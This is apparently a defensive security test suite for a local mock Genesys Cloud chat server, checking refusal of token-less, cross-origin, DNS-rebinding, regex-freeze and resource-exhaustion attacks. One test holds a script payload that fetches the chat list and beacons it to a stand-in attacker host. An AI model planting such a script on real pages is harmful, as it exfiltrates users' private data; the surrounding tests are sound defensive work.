// The server is safe to run on a developer's laptop: each test replays an attack a hostile web page (or a
// hostile client) could make against the local Genesys Cloud and checks it is refused or harmless.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { request } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import WebSocket from 'ws';
import { startServer, type RunningServer } from '../../server/app.ts';
import { ConfigError } from '../../server/config.ts';
import { PathPattern } from '../../server/faults.ts';
import { RateLimiter } from '../../server/rate-limit.ts';
import { api, createBody, createChat, FAST, GUEST, start, StreamClient } from './helpers.ts';

const EVIL = 'https://evil.example';

/** A raw HTTP call, so a test can send the Host header a rebound DNS name would carry. */
function raw(
  server: RunningServer,
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string,
): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(`${server.url}${path}`, { method, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Opens a WebSocket and reports the upgrade's status (101 when it opened). */
function upgradeStatus(url: string, headers: Record<string, string> = {}): Promise<number> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, { headers });
    ws.once('open', () => {
      ws.close();
      resolve(101);
    });
    ws.once('unexpected-response', (_req, res) => {
      resolve(res.statusCode ?? 0);
      res.resume();
    });
    ws.once('error', () => resolve(-1));
  });
}

describe('security: the control API belongs to the developer who started the server', () => {
  let server: RunningServer;
  before(async () => {
    server = await start();
  });
  after(() => server.close());

  it('refuses /control/* without the control token, or with a wrong one (a page read every chat with none)', async () => {
    await createChat(server);
    for (const headers of [{}, { 'x-gc-control-token': 'guessed-token-000000000000' }]) {
      for (const [method, path] of [['GET', '/control/chats'], ['GET', '/control/config'], ['POST', '/control/faults']] as const) {
        const body = method === 'POST' ? JSON.stringify({ path: '/x', status: 500 }) : undefined;
        const res = await fetch(`${server.url}${path}`, { method, headers: { ...headers, 'Content-Type': 'application/json' } as Record<string, string>, body });
        const text = await res.text();
        assert.equal(res.status, 401, `${method} ${path}`);
        assert.equal(JSON.parse(text).code, 'bad.credentials');
        assert.doesNotMatch(text, /Ann/);
      }
    }
    assert.equal((await api(server, 'GET', '/control/chats')).status, 200, 'the tests’ own calls carry the token');
  });

  it('gives the control API no CORS: another origin can neither preflight it nor read an answer', async () => {
    const preflight = await fetch(`${server.url}/control/chats/x/accept`, {
      method: 'OPTIONS',
      headers: { Origin: EVIL, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'x-gc-control-token,content-type' },
    });
    assert.notEqual(preflight.status, 204);
    assert.equal(preflight.headers.get('access-control-allow-origin'), null);
    assert.equal(preflight.headers.get('access-control-allow-headers'), null);
    const simple = await api(server, 'GET', '/control/chats', { headers: { Origin: EVIL } });
    assert.equal(simple.headers.get('access-control-allow-origin'), null);
    // Static pages (the console) carry none either; the public guest API still does, as the real service.
    assert.equal((await fetch(`${server.url}/agent/`, { headers: { Origin: EVIL } })).headers.get('access-control-allow-origin'), null);
    const guest = await api(server, 'GET', `${GUEST}/conversations/x/messages`, { headers: { Origin: EVIL } });
    assert.equal(guest.headers.get('access-control-allow-origin'), '*');
  });

  it('refuses control calls from another origin or under a rebound host name even with the token', async () => {
    const token = { 'x-gc-control-token': server.controlToken };
    const chat = await createChat(server, { routingTarget: { targetType: 'QUEUE', targetAddress: 'Manual' } });
    const fromEvil = await api(server, 'POST', `/control/chats/${chat.id}/accept`, { headers: { ...token, Origin: EVIL }, body: { agentName: 'Bank Security Team' } });
    assert.equal(fromEvil.status, 403);
    assert.equal(fromEvil.body.code, 'origin.not.allowed');
    const port = new URL(server.url).port;
    const rebound = await raw(server, 'GET', '/control/chats', { ...token, Host: `rebind.evil.example:${port}` });
    assert.equal(rebound.status, 403);
    assert.match(rebound.text, /host.not.allowed/);
    // The server's own pages (same origin, loopback or IP host) pass.
    const own = await raw(server, 'GET', '/control/chats', { ...token, Host: `localhost:${port}`, Origin: `http://localhost:${port}` });
    assert.equal(own.status, 200);
    assert.equal((await api(server, 'GET', `/control/chats/${chat.id}`)).body.state, 'queued', 'nobody accepted it');
  });

  it('refuses /control/stream without the token, from another origin and under a rebound host (its snapshot lists every chat)', async () => {
    const ws = server.url.replace('http', 'ws');
    const port = new URL(server.url).port;
    assert.equal(await upgradeStatus(`${ws}/control/stream`), 401);
    assert.equal(await upgradeStatus(`${ws}/control/stream?token=wrong`), 401);
    assert.equal(await upgradeStatus(`${ws}/control/stream?token=${server.controlToken}`, { Origin: EVIL }), 403);
    assert.equal(await upgradeStatus(`${ws}/control/stream?token=${server.controlToken}`, { Host: `evil.example:${port}` }), 403);
    assert.equal(await upgradeStatus(`${ws}/control/stream?token=${server.controlToken}`, { Origin: server.url }), 101);
  });

  it('checks the host of the public guest stream too, but lets any origin open it as the real service does', async () => {
    const chat = await createChat(server);
    const port = new URL(server.url).port;
    assert.equal(await upgradeStatus(chat.eventStreamUri, { Origin: 'https://shop.example' }), 101);
    assert.equal(await upgradeStatus(chat.eventStreamUri, { Host: `rebind.evil.example:${port}` }), 403);
  });

  it('serves a stand-in page only on API paths, sandboxed, never on the console (a script was planted on /agent/)', async () => {
    const page = '<script>fetch("/control/chats").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>';
    for (const path of ['/agent/', '/agent/**', '/**', '/demo/index.html', '/dist/*']) {
      const res = await api(server, 'POST', '/control/faults', { body: { path, status: 200, page, count: 5 } });
      assert.equal(res.status, 400, path);
    }
    const console = await fetch(`${server.url}/agent/`);
    assert.doesNotMatch(await console.text(), /evil\.example/);
    const created = await api(server, 'POST', '/control/faults', { body: { path: `${GUEST}/conversations`, method: 'POST', status: 200, page } });
    assert.equal(created.status, 201);
    const answer = await api(server, 'POST', `${GUEST}/conversations`, { body: createBody() });
    assert.equal(answer.text, page);
    assert.match(answer.headers.get('content-security-policy') ?? '', /sandbox/);
  });

  it('gives each start its own token and an agent console address that carries it in the fragment', async () => {
    const other = await start();
    try {
      assert.ok(server.controlToken.length >= 24);
      assert.notEqual(other.controlToken, server.controlToken);
      assert.equal(other.consoleUrl, `${other.url}/agent/#token=${other.controlToken}`);
    } finally {
      await other.close();
    }
  });

  it('refuses to listen beyond loopback without a chosen token', async () => {
    await assert.rejects(startServer({ port: 0, host: '0.0.0.0', quiet: true, config: FAST }), (err: unknown) =>
      err instanceof ConfigError && /GC_CONTROL_TOKEN/.test(err.message),
    );
    await assert.rejects(startServer({ port: 0, quiet: true, config: FAST, controlToken: 'short' }), ConfigError);
    const open = await startServer({ port: 0, host: '0.0.0.0', quiet: true, config: FAST, controlToken: 'a-chosen-token-0123456789' });
    try {
      assert.equal(open.controlToken, 'a-chosen-token-0123456789');
      assert.equal((await api(open, 'GET', '/control/config')).status, 200);
    } finally {
      await open.close();
    }
  });

  it('npm start prints the console address with the token once, and nothing that reads as an error', async () => {
    const main = fileURLToPath(new URL('../../server/main.ts', import.meta.url));
    const child = spawn(process.execPath, ['--import', 'tsx', main], { env: { ...process.env, PORT: '0', GC_CONTROL_TOKEN: '' } });
    let stdout = '';
    let stderr = '';
    child.stderr.on('data', (d) => (stderr += d));
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`no banner: ${stdout} ${stderr}`)), 20_000);
      child.stdout.on('data', (d) => {
        stdout += d;
        if (stdout.includes('Press Ctrl-C')) {
          clearTimeout(timer);
          resolve();
        }
      });
    });
    child.kill('SIGTERM');
    const token = /\/agent\/#token=([\w-]+)/.exec(stdout)?.[1];
    assert.ok(token, stdout);
    assert.equal(stdout.split(token).length - 1, 1, 'the token appears once');
    assert.doesNotMatch(stdout, /error|warn|fail/i);
    assert.equal(stderr, '');
  });
});

describe('security: fault patterns cannot freeze the server', () => {
  let server: RunningServer;
  before(async () => {
    server = await start();
  });
  after(() => server.close());

  it('matches /**a**a**a**ab against a 500-character path at once (a regex took 40 s)', async () => {
    const pattern = new PathPattern('/**a**a**a**ab');
    const longPath = `/${'a'.repeat(500)}`;
    const started = performance.now();
    assert.equal(pattern.test(longPath), false);
    assert.equal(new PathPattern('/**/a/**/a/**/a/**/ab').test(`/${'a/'.repeat(500)}`), false);
    assert.ok(performance.now() - started < 200, `took ${performance.now() - started} ms`);

    assert.equal((await api(server, 'POST', '/control/faults', { body: { path: '/**a**a**a**ab', status: 500, count: 100 } })).status, 201);
    const before = performance.now();
    const res = await api(server, 'GET', longPath);
    assert.equal(res.status, 404);
    assert.ok(performance.now() - before < 1000);
    await api(server, 'DELETE', '/control/faults');
  });

  it('keeps the meaning of * (one segment) and ** (any segments)', () => {
    const conv = new PathPattern('/api/v2/webchat/guest/conversations/c1/**');
    assert.ok(conv.test('/api/v2/webchat/guest/conversations/c1/members/m1/messages'));
    assert.ok(!conv.test('/api/v2/webchat/guest/conversations/c2/members'));
    const member = new PathPattern('/api/v2/webchat/guest/conversations/c1/members/*/messages');
    assert.ok(member.test('/api/v2/webchat/guest/conversations/c1/members/m1/messages'));
    assert.ok(!member.test('/api/v2/webchat/guest/conversations/c1/members/m1/x/messages'));
    assert.ok(new PathPattern('/v1/token/*').test('/v1/token/a.b.c'));
    assert.ok(new PathPattern('/a*c/x').test('/abbbc/x'));
    assert.ok(!new PathPattern('/a*c/x').test('/ab/c/x'));
  });

  it('caps pattern length, wildcards and the number of rules', async () => {
    const tooLong = await api(server, 'POST', '/control/faults', { body: { path: `/${'a'.repeat(600)}`, status: 500 } });
    assert.equal(tooLong.status, 400);
    const tooWild = await api(server, 'POST', '/control/delays', { body: { path: `/${'*a'.repeat(20)}`, ms: 1 } });
    assert.equal(tooWild.status, 400);
    for (let i = 0; i < 100; i++) {
      assert.equal((await api(server, 'POST', '/control/faults', { body: { path: `/nowhere/${i}`, status: 500 } })).status, 201);
    }
    assert.equal((await api(server, 'POST', '/control/faults', { body: { path: '/nowhere/more', status: 500 } })).status, 400);
    await api(server, 'DELETE', '/control/faults');
  });
});

describe('security: what a client can make the server keep is bounded', () => {
  it('refuses bodies over 64 KB and customFields beyond their limits (1 MB customFields were kept)', async () => {
    const server = await start();
    try {
      const huge = { big: 'x'.repeat(70_000) };
      assert.equal((await api(server, 'POST', `${GUEST}/conversations`, { body: createBody({}, { customFields: huge }) })).status, 413);
      const manyFields = Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`f${i}`, 'v']));
      assert.equal((await api(server, 'POST', `${GUEST}/conversations`, { body: createBody({}, { customFields: manyFields }) })).status, 400);
      const longValue = { note: 'x'.repeat(8_001) };
      assert.equal((await api(server, 'POST', `${GUEST}/conversations`, { body: createBody({}, { customFields: longValue }) })).status, 400);
      const longName = await api(server, 'POST', `${GUEST}/conversations`, { body: createBody({}, { displayName: 'x'.repeat(1_001) }) });
      assert.equal(longName.status, 400);
      assert.equal(server.stats().chats, 0);
    } finally {
      await server.close();
    }
  });

  it('closes a guest stream that sends a large frame instead of buffering it (90 MB frames were accepted)', async () => {
    const server = await start();
    try {
      const chat = await createChat(server);
      const stream = await StreamClient.open(chat.eventStreamUri);
      stream.ws.send('x'.repeat(100_000));
      const closed = await stream.closed;
      assert.equal(closed.code, 1009);
    } finally {
      await server.close();
    }
  });

  it('limits conversation creates and token requests per client, wrong secrets included', async () => {
    const server = await start({ createRateLimit: { requests: 3, windowSeconds: 60 }, tokenRateLimit: { requests: 5, windowSeconds: 60 } });
    try {
      for (let i = 0; i < 3; i++) assert.equal((await api(server, 'POST', `${GUEST}/conversations`, { body: createBody() })).status, 200);
      const refused = await api(server, 'POST', `${GUEST}/conversations`, { body: createBody() });
      assert.equal(refused.status, 429);
      assert.ok(Number(refused.headers.get('retry-after')) > 0);
      const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
      const statuses: number[] = [];
      for (let i = 0; i < 8; i++) {
        const res = await api(server, 'POST', '/oauth/token', { headers: form, rawBody: `grant_type=client_credentials&client_id=demo-client&client_secret=guess${i}` });
        statuses.push(res.status);
      }
      assert.deepEqual(statuses, [401, 401, 401, 401, 401, 429, 429, 429]);
    } finally {
      await server.close();
    }
  });

  it('sweeps rate-limit windows that ran out, and expired tokens', async () => {
    const limiter = new RateLimiter({ requests: 5, windowSeconds: 1 });
    for (let i = 0; i < 1_000; i++) limiter.hit(`client-${i}`, 0);
    assert.equal(limiter.size, 1_000);
    limiter.hit('late', 1_000);
    assert.equal(limiter.size, 1);

    const server = await start({ oauthTokenTtlSeconds: 0.05 });
    try {
      const basic = { 'Content-Type': 'application/x-www-form-urlencoded', Authorization: `Basic ${Buffer.from('demo-client:demo-secret').toString('base64')}` };
      for (let i = 0; i < 20; i++) assert.equal((await api(server, 'POST', '/oauth/token', { headers: basic, rawBody: 'grant_type=client_credentials' })).status, 200);
      await new Promise((resolve) => setTimeout(resolve, 100));
      await api(server, 'POST', '/oauth/token', { headers: basic, rawBody: 'grant_type=client_credentials' });
      assert.equal(server.stats().liveTokens, 1);
    } finally {
      await server.close();
    }
  });

  it('forgets ended chats after their time to live and refuses new chats only when every kept one is ongoing', async () => {
    const server = await start({ endedChatTtlMs: 100, maxChats: 3 });
    try {
      const chats = [await createChat(server), await createChat(server), await createChat(server)];
      const full = await api(server, 'POST', `${GUEST}/conversations`, { body: createBody() });
      assert.equal(full.status, 503);
      await api(server, 'POST', `/control/chats/${chats[0]!.id}/end`);
      // An ended chat makes room at once for a new one…
      const fourth = await createChat(server);
      assert.equal((await api(server, 'GET', `/control/chats/${chats[0]!.id}`)).status, 404);
      // …and any ended chat is gone after its time to live.
      await api(server, 'POST', `/control/chats/${fourth.id}/end`);
      assert.equal((await api(server, 'GET', `/control/chats/${fourth.id}`)).status, 200);
      await new Promise((resolve) => setTimeout(resolve, 250));
      assert.equal((await api(server, 'GET', `/control/chats/${fourth.id}`)).status, 404);
      assert.equal(server.stats().chats, 2);
    } finally {
      await server.close();
    }
  });

  it('ends a load of large chats with bounded memory', { timeout: 120_000 }, async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const server = await start({ endedChatTtlMs: 20, maxChats: 50 });
    try {
      // Each create carries ~60 KB of customFields, close to the most a body may hold.
      const fields = Object.fromEntries(Array.from({ length: 95 }, (_, i) => [`field${i}`, `${i}`.padEnd(640, 'x')]));
      const round = async (count: number) => {
        for (let i = 0; i < count; i += 10) {
          await Promise.all(
            Array.from({ length: 10 }, async () => {
              const res = await api(server, 'POST', `${GUEST}/conversations`, { body: createBody({}, { customFields: fields }) });
              assert.equal(res.status, 200, res.text);
              await api(server, 'POST', `/control/chats/${res.body.id}/end`);
            }),
          );
        }
      };
      await round(100); // warm up
      gc();
      const before = process.memoryUsage().heapUsed;
      await round(600); // 36 MB of fields in all
      await new Promise((resolve) => setTimeout(resolve, 100));
      gc();
      const grown = process.memoryUsage().heapUsed - before;
      assert.ok(server.stats().chats <= 50, `kept ${server.stats().chats} chats`);
      assert.ok(grown < 12 * 1024 * 1024, `heap grew ${(grown / 1024 / 1024).toFixed(1)} MB`);
    } finally {
      await server.close();
    }
  });
});

describe('security: odds and ends', () => {
  it('answers a Basic header with bad percent-encoding with 401, not 500', async () => {
    const server = await start();
    try {
      const res = await api(server, 'POST', '/oauth/token', {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', Authorization: `Basic ${Buffer.from('demo%zz:secret%').toString('base64')}` },
        rawBody: 'grant_type=client_credentials',
      });
      assert.equal(res.status, 401);
      assert.equal(res.body.error, 'invalid_client');
    } finally {
      await server.close();
    }
  });
});
